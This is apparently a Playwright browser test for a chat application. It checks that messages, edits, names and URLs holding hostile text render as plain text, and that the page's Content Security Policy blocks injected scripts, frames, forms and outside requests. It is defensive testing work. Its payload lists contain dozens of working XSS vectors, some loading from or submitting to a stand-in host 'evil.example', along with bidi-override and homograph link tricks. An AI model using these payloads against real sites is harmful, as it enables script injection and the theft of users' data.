/** Hostile texts in a real Chromium: shown as what they are, and the page's policy behind that. */

import assert from 'node:assert/strict'
import { createServer, type AddressInfo } from 'node:net'
import { test, type TestContext } from 'node:test'
import type { Browser } from 'playwright-core'
import { runtime } from '#runtime'
import { launchBrowser } from '../browser.ts'
import { connect, newcomer, post, signIn, startServer, tempFolder } from '../helpers.ts'
import { bodies, FRAMES, LIVELY, message, say, soon, until, type Person } from './people.ts'

const MARKS = Array.from({ length: 60 }, (_, i) => String.fromCharCode(0x300 + (i % 0x6f))).join('')
const ZALGO = [...'HE COMES'].map((letter) => letter + MARKS).join('')
const RTL = 'שלום'

/** Each would call `pwn()`, reach for another server, or turn the text around it. */
const PAYLOADS = [
  '<script>pwn()</script>',
  '<script src="https://evil.example/x.js"></script>',
  '<img src=x onerror=pwn()>',
  '<img src="https://evil.example/pixel.gif">',
  '<svg onload=pwn()>',
  '<svg><script>pwn()</script></svg>',
  '<svg><a xlink:href="javascript:pwn()"><text>x</text></a></svg>',
  '<math><mtext></table><mglyph><style><img src=x onerror=pwn()>',
  '<iframe src="javascript:parent.pwn()"></iframe>',
  '<iframe srcdoc="<script>parent.pwn()</script>"></iframe>',
  '<object data="javascript:pwn()"></object><embed src="javascript:pwn()">',
  '<details open ontoggle=pwn()>x</details>',
  '<input autofocus onfocus=pwn()>',
  '<video><source onerror=pwn()></video><audio src=x onerror=pwn()>',
  '<body onload=pwn()><marquee onstart=pwn()>',
  '<a href="javascript:pwn()">click me</a>',
  '<form action="https://evil.example"><button>send</button></form>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<base href="https://evil.example/"><link rel=stylesheet href=x.css>',
  '<style>body{background:url(https://evil.example/x)}</style>',
  '<p style="position:fixed;inset:0;background:red">covered</p>',
  '"><script>pwn()</script>',
  "' onmouseover='pwn()' x='",
  '</textarea></p></li></ol><script>pwn()</script>',
  '<!--<img src="--><img src=x onerror=pwn()>',
  '<![CDATA[<script>pwn()</script>]]>',
  '&lt;script&gt;pwn()&lt;/script&gt; &amp; &#60;img src=x onerror=pwn()&#62;',
  '\\u003cscript\\u003epwn()\\u003c/script\\u003e %3Cscript%3Epwn()%3C/script%3E',
  '<scr\n<script>ipt>pwn()</script>\t<IMG SRC=X ONERROR=pwn()>',
  'javascript:pwn() data:text/html,<script>pwn()</script> vbscript:pwn()',
  'https://example.org/"onmouseover="pwn() http://evil.example/<script>pwn()</script>',
  'https://user:pass@example.org:443/?a=<svg/onload=pwn()>#javascript:pwn()',
  '{"type":"message","body":"<script>pwn()</script>"}',
  '__proto__ constructor toString %s %d %c',
  '\u202egnihton si siht\u202c \u202eunclosed',
  '\u2067\u2066isolates\u2069\u2069\u2069\u202ebreak out',
  `${RTL} 123 (abc) ${RTL}!`,
  'https://example.org/\u202egpj.exe',
  '\u200b\u200c\u200d\u2060\ufeffinvisible\u00ad \u2028\u2029lines',
  ZALGO,
  '\u{1f468}\u200d\u{1f469}\u200d\u{1f467}'.repeat(30),
  '[x](javascript:pwn()) [x](JaVaScRiPt:pwn()) [x](java\nscript:pwn()) [x](&#106;avascript:pwn())',
  '[x](data:text/html,<script>pwn()</script>) [x](vbscript:pwn()) [x](//evil.example) [x](/r/x)',
  "[x](https://a.example\" onclick=\"pwn()) [x](https://a.example' onclick='pwn()')",
  '[x](https://a.example/<svg/onload=pwn()>) [x]( https://a.example)](](',
  '[[x](https://[a](javascript:pwn()))](javascript:pwn()) ![x](data:image/svg+xml,x)',
  '[good.example\u202e](https://evil.example) [\\\u2066x](https://evil.example/\u2069)',
  'x'.repeat(4000),
]
/** The same behind marks, each with how it reads. */
const MARKED = {
  '`${pwn()}` {{constructor.constructor("pwn()")()}} <%= pwn() %>':
    '${pwn()} {{constructor.constructor("pwn()")()}} <%= pwn() %>',
  '**<script>pwn()</script>** _<img src=x onerror=pwn()>_ `<svg onload=pwn()>`':
    '<script>pwn()</script> <img src=x onerror=pwn()> <svg onload=pwn()>',
  '```<script>pwn()</script>\n</code></pre><img src=x onerror=pwn()>':
    '<script>pwn()</script>\n</code></pre><img src=x onerror=pwn()>',
  '[<img src=x onerror=pwn()>](https://a.example/?q=%22onclick=pwn%28%29)':
    '<img src=x onerror=pwn()> (a.example)',
  '[**[x](javascript:pwn())**](https://a.example)': '[[x](javascript:pwn())](https://a.example)',
  '[https://good.example/](https://evil.example/)': 'https://good.example/ (evil.example)',
  '[good.example](https://good.example@evil.example)': 'good.example (evil.example)',
  '[good.example (good.example)](https://evil.example)':
    'good.example (good.example) (evil.example)',
  '[p\u0430ypal.com](https://p\u0430ypal.com)': 'p\u0430ypal.com (xn--pypal-4ve.com)',
  '\u202e[good.example](https://evil.example)': '\u202egood.example (evil.example)',
}
/** Names from before there was a rule for them, which their users keep. */
const NAMES = [
  '<script>pwn()</script>',
  '<img src=x onerror=pwn()>',
  '"><svg onload=pwn()>',
  "' onclick='pwn()'",
  'javascript:pwn()',
  '&lt;b&gt; {{7*7}} ${pwn()}',
  `${RTL} 12!`,
  `Z${MARKS.slice(0, 31)}`.normalize('NFC'),
]
const ADDRESSES = [
  '/r/%3Cimg%20src=x%20onerror=pwn()%3E',
  '/r/javascript:pwn()',
  '/r/%E2%80%AEybbol?q=<script>pwn()</script>',
  '/r/lobby%2F%3Csvg%20onload=pwn()%3E#<img src=x onerror=pwn()>',
  '/#link=<img src=x onerror=pwn()>',
]

interface Watched extends Person {
  /** Dialogs, requests to elsewhere, calls of `pwn()`. */
  incidents: string[]
  /** What the policy of the page blocked, by directive. */
  violations: string[]
}

/** A guest who has a name that nobody would be given now. */
async function namedBefore(url: string, file: string, guest: string, name: string) {
  const account = await signIn(url, guest)
  const db = runtime.openSqlite(file)
  db.prepare('UPDATE users SET name = ? WHERE id = ?').all(name, account.user.id)
  db.close()
  return account
}

/** Opens the page under eyes that were there before it. */
async function watch(browser: Browser, url: string): Promise<Watched> {
  const page = await browser.newPage()
  const [complaints, incidents, violations]: string[][] = [[], [], []] as [[], [], []]
  page.setDefaultTimeout(15_000)
  page.on('console', (line) => {
    if (!line.text().startsWith('Failed to load resource')) complaints!.push(line.text())
  })
  page.on('pageerror', (error) => complaints!.push(String(error)))
  page.on('dialog', (dialog) => {
    incidents!.push(`dialog ${dialog.message()}`)
    void dialog.dismiss()
  })
  page.on('request', (request) => {
    if (new URL(request.url()).origin !== url) incidents!.push(`request ${request.url()}`)
  })
  page.on('popup', (popup) => incidents!.push(`popup ${popup.url()}`))
  await page.exposeFunction('pwn', () => incidents!.push('pwn'))
  await page.exposeFunction('violated', (directive: string) => violations!.push(directive))
  // tsx names inner functions by this helper, which is not in the page.
  await page.addInitScript('globalThis.__name = (named) => named')
  await page.addInitScript(() => {
    const { violated } = window as unknown as { violated: (directive: string) => void }
    addEventListener('securitypolicyviolation', (event) => violated(event.effectiveDirective))
  })
  return { page, complaints: complaints!, incidents: incidents!, violations: violations! }
}

/** Where a text stands on the screen, from the first to the last letter. */
const edges = ({ page }: Person, selector: string) =>
  page
    .locator(selector)
    .last()
    .evaluate((node) => {
      const range = document.createRange()
      const place = (start: number) => {
        const text = node.childNodes[0]!
        range.setStart(text, start)
        range.setEnd(text, start + 1)
        return range.getBoundingClientRect().left
      }
      const { left, right } = node.getBoundingClientRect()
      return { left, right, first: place(0), last: place((node.textContent ?? '').length - 1) }
    })

test('hostile texts are text: in messages, edits, quotes, names, addresses', async (t) => {
  const file = `${tempFolder(t)}/hearth.db`
  const { url } = await startServer(t, { env: { ...LIVELY, ...FRAMES, DATA_FILE: file } })
  const ada = await watch(await launchBrowser(t), url)
  const { page } = ada
  for (const address of ADDRESSES) {
    await page.goto(url + address)
    await page.getByLabel('Your name').waitFor()
  }
  await page.goto(url + ADDRESSES[0])
  await page.getByLabel('Your name').fill('Ada')
  await page.keyboard.press('Enter')
  await page.getByText('It is quiet here').waitFor()
  await soon(() => page.locator('#room-title').textContent(), 'lobby')
  assert.equal(new URL(page.url()).pathname, '/r/lobby')

  const bot = await newcomer(t, url, 'Bot')
  await bot.join('lobby')
  for (const body of [...Object.keys(MARKED), ...PAYLOADS]) await bot.say('lobby', body)
  await message(ada, 'xxx').last().waitFor()
  assert.deepEqual(
    await bodies(ada),
    [...Object.values(MARKED), ...PAYLOADS].map((body) => body.normalize('NFC')),
  )
  for (const [n, body] of PAYLOADS.slice(0, 4).entries()) {
    await say(ada, body)
    await page.locator('.own:not(.pending)').nth(n).waitFor()
    assert.equal((await bodies(ada)).at(-1), body)
  }

  await t.test('edits and quotes', async () => {
    const { seq } = await bot.say('lobby', 'to be edited')
    for (const body of ['<img src=x onerror=pwn()>', '\u202eunclosed', '\u2069\u2069\u202eout']) {
      const id = crypto.randomUUID()
      bot.send({ type: 'edit', room: 'lobby', id, target: seq, body })
      await page.locator('.text', { hasText: body }).waitFor()
      await soon(() => page.locator('.text').textContent(), body)
      const mark = await edges(ada, '.edited')
      assert.ok(mark.first < mark.last, 'the words beside it are turned')
      assert.ok((await edges(ada, '.text')).right <= mark.left, 'the words are on the other side')
    }
    const target =
      1 +
      Object.keys(MARKED).length +
      PAYLOADS.indexOf('\u202egnihton si siht\u202c \u202eunclosed')
    await bot.say('lobby', 'quoting', { replyTo: target })
    await page.locator('blockquote').waitFor()
    const name = await edges(ada, 'blockquote bdi')
    assert.ok(name.first < name.last && name.right <= (await edges(ada, 'blockquote span')).left)
  })

  await t.test('names', async () => {
    for (const [n, name] of NAMES.entries()) {
      const client = await connect(t, url, await namedBefore(url, file, `Guest ${n}`, name))
      await client.join('lobby')
      await client.say('lobby', `I am ${name}`)
      client.send({ type: 'typing', room: 'lobby' })
      await page.locator('#typing bdi', { hasText: name }).waitFor()
      await soon(() => page.locator('#typing').textContent(), `${name} is typing…`)
      const author = page.locator('.message.first .by bdi').last()
      await soon(() => author.textContent(), name)
      assert.ok(
        (await edges(ada, '.first .by bdi')).right <= (await edges(ada, '.first time')).left,
      )
      await client.say('lobby', 'and go')
      await until(ada, () => document.getElementById('typing')?.textContent === '')
    }
    const people = NAMES.length + 2
    await page.waitForFunction(
      (n) => document.querySelectorAll('#people-list li').length === n,
      people,
    )
    const listed = await page.locator('#people-list bdi').allTextContents()
    assert.deepEqual(new Set(listed), new Set([...NAMES, 'Ada', 'Bot']))
    for (const turn of ['\u202e', '\u202a', '\u2067', '\u2069', '\0', '\n', '\ud800']) {
      assert.equal((await post(`${url}/api/session`, { name: `x${turn}y` })).status, 400)
    }
  })

  await t.test('an address in a text reads as what it is', async () => {
    const links = await page.locator('.body a').evaluateAll((nodes) =>
      nodes.map((node) => {
        const { href, text, dir, rel, nextElementSibling } = node as HTMLAnchorElement
        return { href, text, dir, rel, beside: nextElementSibling?.textContent }
      }),
    )
    assert.ok(links.length >= 10)
    for (const { href, text, dir, rel, beside } of links) {
      assert.match(href, /^https?:/)
      assert.doesNotMatch(text, /[\u202a-\u202e\u2066-\u2069]/)
      assert.equal(rel, 'noopener noreferrer')
      // What reads as something else than the address has the host beside it.
      if (dir === 'auto') assert.equal(beside, `(${new URL(href).host})`)
      else assert.deepEqual([dir, new URL(text).href], ['ltr', href])
    }
  })

  await t.test('each text has its own direction', async () => {
    const styles = await page
      .locator('.body[dir=auto], .body a, .host, code[dir], bdi, blockquote span')
      .evaluateAll((nodes) => nodes.map((node) => getComputedStyle(node).unicodeBidi))
    assert.deepEqual([...new Set(styles)], ['isolate'])
    const direction = await message(ada, `123 (abc)`)
      .locator('.body')
      .evaluate((node) => getComputedStyle(node).direction)
    assert.equal(direction, 'rtl')
  })

  await t.test('letters with a hundred marks paint over nobody else', async () => {
    await bot.join('tower')
    await page.goto(`${url}/r/tower`)
    await bot.say('tower', 'above')
    const shot = (text: string) => message(ada, text).screenshot({ animations: 'disabled' })
    await message(ada, 'above').waitFor()
    const above = await shot('above')
    const { seq } = await bot.say('tower', ZALGO)
    await bot.say('tower', 'below')
    await message(ada, 'below').waitFor()
    assert.ok(above.equals(await shot('above')), 'it paints over the message above')
    const below = await shot('below')
    bot.send({ type: 'delete', room: 'tower', id: crypto.randomUUID(), target: seq })
    await page.locator('.deleted').waitFor()
    assert.ok(below.equals(await shot('below')), 'it painted over the message below')
  })

  await t.test('and after all that nothing has run, and nothing was blocked', async () => {
    await page.getByRole('button', { name: 'Use on another device' }).click()
    await page.getByRole('dialog').waitFor()
    await page.getByRole('button', { name: 'Close' }).click()
    await page.getByRole('button', { name: 'Sign out' }).click()
    await page.getByLabel('Your name').waitFor()
    const { complaints, incidents, violations } = ada
    assert.deepEqual({ complaints, incidents, violations }, NOTHING)
  })

  await t.test('the policy would have blocked it', () => bite(t, ada, url))
})

const NOTHING = { complaints: [], incidents: [], violations: [] }

/** Does by hand what a hole in the page would do, each against another part of the policy. */
async function bite(t: TestContext, { page, incidents, violations }: Watched, url: string) {
  const port = await startTrap(t)
  const outcome = await page.evaluate(async (elsewhere) => {
    // While it is called from outside, even `eval` is allowed.
    await new Promise((resolve) => setTimeout(resolve))
    const make = (tag: string, props: Record<string, string>) => {
      const node = document.createElement(tag)
      for (const [name, value] of Object.entries(props)) node.setAttribute(name, value)
      return document.body.appendChild(node)
    }
    const error = (run: () => unknown) => {
      try {
        run()
        return 'nothing'
      } catch (error) {
        return (error as Error).name
      }
    }
    const script = document.createElement('script')
    script.append('pwn()')
    document.body.append(script)
    make('img', { src: `http://${elsewhere}/pixel.gif` })
    make('p', { style: 'color: red' })
    make('iframe', { src: `http://${elsewhere}/frame` })
    const form = make('form', { action: `http://${elsewhere}/form`, target: '_self' })
    ;(form as HTMLFormElement).submit()
    make('base', { href: `http://${elsewhere}/` })
    make('link', { rel: 'stylesheet', href: `http://${elsewhere}/x.css` })
    void fetch(`http://${elsewhere}/fetch`).catch(() => {})
    void import(`http://${elsewhere}/x.js`).catch(() => {})
    const inline = 'data:text/javascript,pwn()'
    void import(inline).catch(() => {})
    error(() => new WebSocket(`ws://${elsewhere}/ws`))
    error(() => new EventSource(`http://${elsewhere}/events`))
    return {
      innerHTML: error(() => (document.createElement('p').innerHTML = '<b>x</b>')),
      src: error(() => make('script', { src: 'data:text/javascript,pwn()' })),
      eval: error(() => (0, eval)('pwn()')),
      Function: error(() => new Function('pwn()')()),
      timer: error(() => setTimeout('pwn()' as unknown as () => void, 0)),
      handler: error(() => document.body.setAttribute('onclick', 'pwn()')),
      policy: error(() =>
        (window as unknown as WithTypes).trustedTypes.createPolicy('default', {}),
      ),
      worker: error(() => new Worker('data:text/javascript,1')),
    }
  }, `127.0.0.1:${port}`)
  const { worker: _worker, ...errors } = outcome
  for (const [what, name] of Object.entries(errors)) assert.match(name, /Error$/, what)
  const parts = 'script-src-elem img-src style-src-attr frame-src form-action base-uri connect-src'
  const wanted = [...parts.split(' '), 'style-src-elem', 'require-trusted-types-for']
  const end = performance.now() + 5_000
  while (!wanted.every((part) => violations.includes(part)) && performance.now() < end) {
    await page.evaluate(() => new Promise(requestAnimationFrame))
  }
  for (const part of wanted) assert.ok(violations.includes(part), `${part} of ${violations}`)
  assert.ok(!incidents.includes('pwn'), 'it ran')

  await page.goto(`data:text/html,<iframe src="${url}/"></iframe>`)
  const [, frame] = page.frames()
  assert.equal(frame?.url(), 'chrome-error://chromewebdata/')
}

interface WithTypes {
  trustedTypes: { createPolicy(name: string, rules: object): unknown }
}

/** Another server, which fails the test when anybody connects to it. */
async function startTrap(t: TestContext) {
  const visits: string[] = []
  const server = createServer((socket) => {
    socket.once('data', (bytes) => {
      visits.push(String(bytes).split('\r\n')[0] ?? '')
      socket.destroy()
    })
    socket.on('error', () => {})
  })
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  t.after(() => {
    server.close()
    assert.deepEqual(visits, [], 'somebody got through to another server')
  })
  return (server.address() as AddressInfo).port
}
